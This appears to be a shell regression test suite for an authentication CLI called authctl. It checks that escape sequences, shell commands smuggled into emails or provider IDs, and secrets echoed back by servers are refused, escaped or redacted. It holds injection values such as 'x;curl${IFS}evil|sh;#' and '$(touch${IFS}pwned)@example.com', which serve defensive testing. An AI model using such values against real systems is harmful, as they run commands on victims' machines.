# Text from a server, a project or a file cannot control a terminal or run in a shell, and secrets of a request are not
# printed.

# clean FILE…: checks that the files have no control, bidirectional or zero-width characters.
clean() {
    python3 - "$@" <<'P' || fail "hidden characters were printed"
import sys
hidden = {*range(0x20), *range(0x7F, 0xA0), 0xAD, 0x61C, *range(0x200B, 0x2010), *range(0x2028, 0x202F),
          *range(0x2060, 0x2070), 0xFEFF, *range(0xE0000, 0xE0080)} - {10}
for name in sys.argv[1:]:
    for line in open(name, encoding="utf-8", newline="\n"):
        found = [hex(ord(c)) for c in line if ord(c) in hidden]
        if found: sys.exit(f"{name}: {found}: {ascii(line)}")
        # Text that imitates a line of the program is printed inside a line.
        if line.startswith("authctl: hint: curl"): sys.exit(f"{name}: {ascii(line)}")
P
}

# looks COMMAND…: it works as text, as JSON and with --verbose, and its output is clean.
looks() {
    for more in "" --json --verbose; do works "$@" $more; clean stdout stderr; done
}

#: Refuses a registered client ID with escape sequences, and stores nothing.
emulator --fault escapes-in-client-id
exits 65 authctl providers add oidc.test --issuer "$ISSUER" --register
err 'client_id.* is not a client ID'
clean stdout stderr
exits 65 authctl providers add oidc.test --issuer "$ISSUER" --register --json
clean stdout stderr
works authctl providers list
no_out oidc.test
[ ! -e "$HOME/.config/authctl/authctl.db" ] || ! grep -q '31mred' "$HOME/.config/authctl/config.yaml" || fail "it was stored"
exits 78 authctl providers add oidc.test --issuer "$ISSUER" --client-id $'client\e[31m'
clean stdout stderr

#: Prints names and addresses with hidden characters escaped; their JSON values are unchanged.
emulator --fault escapes-in-name --fault escapes-in-email
works authctl providers add oidc.test --issuer "$ISSUER" --client-id emulator-client
works authctl signin --json
clean stdout stderr
json "'\x1b[31mred' in d['profile']['name'] and '\u202e' in d['account']['email']"
works authctl signin
clean stdout stderr
for command in whoami status "accounts list" "accounts show" "providers list" "providers show oidc.test" "token" "reauth"; do looks authctl $command; done
works authctl accounts export --json --reauth
clean stdout stderr
works authctl whoami --json
works authctl accounts lookup "$(field "d['account']['email']")"
clean stdout stderr
works authctl doctor --long
clean stdout stderr
works authctl signout
clean stdout stderr

#: An error whose code and description contain escape sequences is printed as one error line.
emulator --fault escapes-in-error
works authctl providers add oidc.test --issuer "$ISSUER" --client-id emulator-client
for more in "" --json --verbose; do exits 65 authctl signin $more; clean stdout stderr; done
exits 65 authctl signin
[ "$(grep -c '^authctl: error: ' stderr)" = 1 ] && [ "$(grep -c '^authctl: hint: ' stderr)" -le 1 ] || fail "not one line"

#: Refuses escape sequences in a device code or its URL before printing them.
emulator --fault escapes-in-device
works authctl providers add oidc.test --issuer "$ISSUER" --client-id emulator-client
for more in "" --json --verbose; do exits 65 authctl signin --flow device $more; clean stdout stderr; done
exits 4 authctl token

#: A shell command in an email address does not run when a hint is pasted.
# Local directory only: the hint names the other account on this machine.
mkdir tools
printf '#!/bin/sh\n>"%s/pwned"\n' "$PWD" >tools/curl
chmod +x tools/curl
emulator --fault hostile-email
works authctl providers add oidc.first --issuer "$ISSUER" --client-id emulator-client --trust-email
works authctl signin --provider oidc.first
first=$ISSUER
emulator --user grace@example.com
works authctl providers add oidc.second --issuer "$ISSUER" --client-id emulator-client --trust-email
works authctl signin --provider oidc.second
emulator --fault hostile-email
works authctl providers add oidc.third --issuer "$ISSUER" --client-id emulator-client --trust-email
exits 6 authctl link --provider oidc.third
grep '^authctl: hint: ' stderr | sed 's/.*: authctl/authctl/' >pasted
grep -q "lookup 'x;curl" pasted || fail "the hint: $(cat pasted)"
PATH=$PWD/tools:$PATH sh ./pasted >stdout 2>stderr || fail "the hint does not run"
out '^oidc.first$'
[ ! -e pwned ] || fail "the address was run"
works authctl signout
exits 6 authctl signin --provider oidc.third
export BROWSER="$(command -v curl) -sS -L -o /dev/null"
grep '^authctl: hint: ' stderr | sed 's/^authctl: hint: //' >pasted
PATH=$PWD/tools:$PATH sh ./pasted >stdout 2>stderr || true
[ ! -e pwned ] || fail "the address was run"

#: Completions do not offer names that bash would expand and run.
emulator --user '$(touch${IFS}pwned)@example.com'
works authctl providers add oidc.test --issuer "$ISSUER" --client-id emulator-client
works authctl signin
cat >ask.bash <<'B'
. "$ROOT/completions/authctl.bash"
COMP_WORDS=(authctl accounts switch ''); COMP_CWORD=3; COMP_LINE='authctl accounts switch '; COMP_POINT=${#COMP_LINE}; COMP_TYPE=9
_authctl authctl '' switch; printf '%s\n' "${COMPREPLY[@]}"
B
export ROOT
works bash ask.bash
[ ! -e pwned ] || fail "pressing Tab ran a command"
no_out 'touch|example.com'

#: Redacts the secrets of a request if a server repeats them in its response, in every encoding.
for way in client_secret_basic client_secret_post none; do
    secret=client-secret/of+the-test
    emulator --fault echo-secret --client-secret "$secret"
    secret_file "$secret" client-secret
    works authctl providers add oidc.$way --issuer "$ISSUER" --client-id emulator-client --client-secret-file "$PWD/client-secret" --auth-method $way
    for flow in browser device client-credentials; do
        for more in "" --json --verbose; do
            exits 78 authctl signin --provider oidc.$way --flow $flow $more
            clean stdout stderr
            python3 - "$secret" <<'P' || fail "a secret came back"
import base64, sys, urllib.parse
said = open("stdout").read() + open("stderr").read()
secrets = {sys.argv[1], *open("secrets").read().split()}
for secret in secrets:
    spelled = {secret, urllib.parse.quote(secret, safe=""), "".join("%%%02x" % b for b in secret.encode())}
    for offset in range(3):
        spelled.add(base64.urlsafe_b64encode(b"x" * offset + secret.encode()).decode()[4:-4])
        spelled.add(base64.b64encode(b"x" * offset + secret.encode()).decode()[4:-4])
    found = [s for s in spelled if s in said]
    if found: sys.exit(f"{found} in {said}")
P
        done
        [ $way = none ] || err '<redacted>' || failed "'<redacted>' in e['message']"
    done
done

#: A trace shows only the values of safe headers.
firebase
authctl signin --provider password --email a@example.com --create --password-stdin --verbose <<<'correct horse battery staple' >stdout 2>stderr || fail "exit $?"
err 'Content-Type: application/json'
no_err 'horse|test-key'
clean stdout stderr

#: Users can set any request header, and a trace redacts its value.
signed_in
works authctl request "$ISSUER/userinfo" -H 'X-Api-Key: key-of-the-test' -H 'Cookie: session=cookie-of-the-test' -H 'PRIVATE-TOKEN: token-of-the-test' -H 'Accept: application/json' --verbose
err '> Cookie: <redacted>'
err '> X-Api-Key: <redacted>'
err '> PRIVATE-TOKEN: <redacted>'
err '> Authorization: <redacted>'
err '> Accept: application/json'
no_err 'of-the-test'

#: Refuses a Firebase project's response with escape sequences in a provider ID.
export FIREBASE_FLAGS="--fault escapes-in-provider"
firebase
# The project creates the account even if the following lookup fails; data of that lookup is ignored.
works bash -c 'authctl signin --provider password --email a@example.com --create --password-stdin <<<"correct horse battery staple"'
err 'the account could not be read from the project'
clean stdout stderr
exits 65 authctl accounts lookup a@example.com
clean stdout stderr
exits 65 authctl accounts lookup a@example.com --json
clean stdout stderr
works authctl whoami --json
clean stdout stderr
! grep -rqa '31mred' "$HOME/.config/authctl" || fail "it was stored"

#: Refuses a Firebase project's response with escape sequences in a uid.
export FIREBASE_FLAGS="--fault escapes-in-uid"
firebase
works bash -c 'authctl signin --provider password --email a@example.com --create --password-stdin <<<"correct horse battery staple"'
err 'the account could not be read from the project'
clean stdout stderr
works authctl status --json
clean stdout stderr
! grep -rqa '31mred' "$HOME/.config/authctl" || fail "it was stored"

#: Refuses a shell command as a provider ID in a Firebase project's response.
export FIREBASE_FLAGS="--fault hostile-provider"
firebase
provider google.com --user linus@example.com
authctl signin --provider google.com >stdout 2>stderr </dev/null && fail "signed in" || [ $? = 65 ] || fail "exit"
no_err 'evil.example'
clean stdout stderr

#: Imports no account if a provider ID in the file is invalid.
python3 - <<'P'
import json
def account(n, provider):
    return {"uid": f"uid-{n}", "email": f"a{n}@example.com", "createdAt": "2026-11-21T08:00:00Z",
            "providerData": [{"providerId": provider, "authority": "https://a.example", "federatedId": str(n)}]}
for name, provider in [("escapes", "\x1b[31mred\u202e"), ("hostile", "x;curl${IFS}evil|sh;#"), ("empty", ""), ("long", "x" * 129)]:
    json.dump({"version": 1, "accounts": [account(1, "oidc.fine"), account(2, provider)]}, open(name, "w"))
hidden = account(1, "oidc.fine") | {"displayName": "\x1b[31mred\u202e", "email": "\x9b2J@example.com"}
json.dump({"version": 1, "accounts": [hidden]}, open("shown", "w"))
P
for name in escapes hostile empty long; do
    exits 65 authctl accounts import $name
    err 'error: accounts not imported: .*provider'
    clean stdout stderr
done
works authctl accounts list
[ ! -s stdout ] || fail "some were imported"
works authctl accounts import shown
looks authctl accounts list
works authctl accounts list --json
json "d['accounts'][0]['displayName'] == '\x1b[31mred\u202e'"

#: Prints response bodies and token payloads unchanged to a pipe, and escaped to a terminal.
signed_in
printf '\033[31mred\302\233\342\200\256\tx\n' >raw
python3 - >page.url <<'P' &
import http.server
class Page(http.server.BaseHTTPRequestHandler):
    def log_message(self, *_): pass
    def do_GET(self):
        body = open("raw", "rb").read()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
server = http.server.HTTPServer(("127.0.0.1", 0), Page)
print(server.server_port, flush=True)
server.serve_forever()
P
servers+=($!)
port=$(awaits page.url '[0-9]+')
works authctl providers add oidc.test --issuer "$ISSUER" --client-id emulator-client --api-host "http://127.0.0.1:$port"
works authctl request "http://127.0.0.1:$port/"
cmp -s stdout raw || fail "a pipe gets another body"
python3 "$ROOT/Tests/Servers/terminal.py" -- authctl request "http://127.0.0.1:$port/" >shown || fail "exit $?"
tr -d '\r\t' <shown >stdout
clean stdout
out '\\u\{1b\}\[31mred\\u\{9b\}\\u\{202e\}'

# A signed token whose payload contains raw control characters.
openssl genrsa -out key.pem 2048 2>/dev/null
python3 - "$ISSUER" <<'P'
import base64, json, subprocess, sys, time
b64 = lambda b: base64.urlsafe_b64encode(b).rstrip(b"=")
modulus = int(subprocess.run(["openssl", "rsa", "-in", "key.pem", "-noout", "-modulus"], capture_output=True, text=True).stdout.split("=")[1], 16)
json.dump({"keys": [{"kty": "RSA", "n": b64(modulus.to_bytes(256, "big")).decode(), "e": "AQAB", "alg": "RS256"}]}, open("jwks", "w"))
claims = {"iss": sys.argv[1], "aud": "c", "sub": "1", "iat": int(time.time()), "exp": int(time.time()) + 600, "name": "a\x7f\x9b\u202eé"}
def signed(payload):
    text = b64(b'{"alg":"RS256"}') + b"." + b64(payload)
    signature = subprocess.run(["openssl", "dgst", "-sha256", "-sign", "key.pem"], input=text, capture_output=True).stdout
    return text + b"." + b64(signature)
open("token", "wb").write(signed(json.dumps(claims, ensure_ascii=False).encode()) + b"\n")
open("bare", "wb").write(signed(open("raw", "rb").read()) + b"\n")
P
works authctl verify token --jwks jwks --issuer "$ISSUER" --audience c
clean stdout
json "d['name'] == 'a\x7f\x9b\u202eé'"
authctl verify - --jwks jwks --issuer "$ISSUER" --audience c <token >stdout || fail "exit $?"
record authctl verify - --json
clean stdout
json "d['valid'] and d['claims']['name'] == 'a\x7f\x9b\u202eé'"
authctl verify - --jwks jwks --signature-only <bare >stdout || fail "exit $?"
record authctl verify - --json
clean stdout
json "d['payload'] == open('raw').read()"
works authctl verify bare --jwks jwks --signature-only
{ cat raw; echo; } | cmp -s - stdout || fail "a pipe gets another payload"
python3 "$ROOT/Tests/Servers/terminal.py" -- authctl verify bare --jwks jwks --signature-only >shown || fail "exit $?"
tr -d '\r\t' <shown >stdout
clean stdout
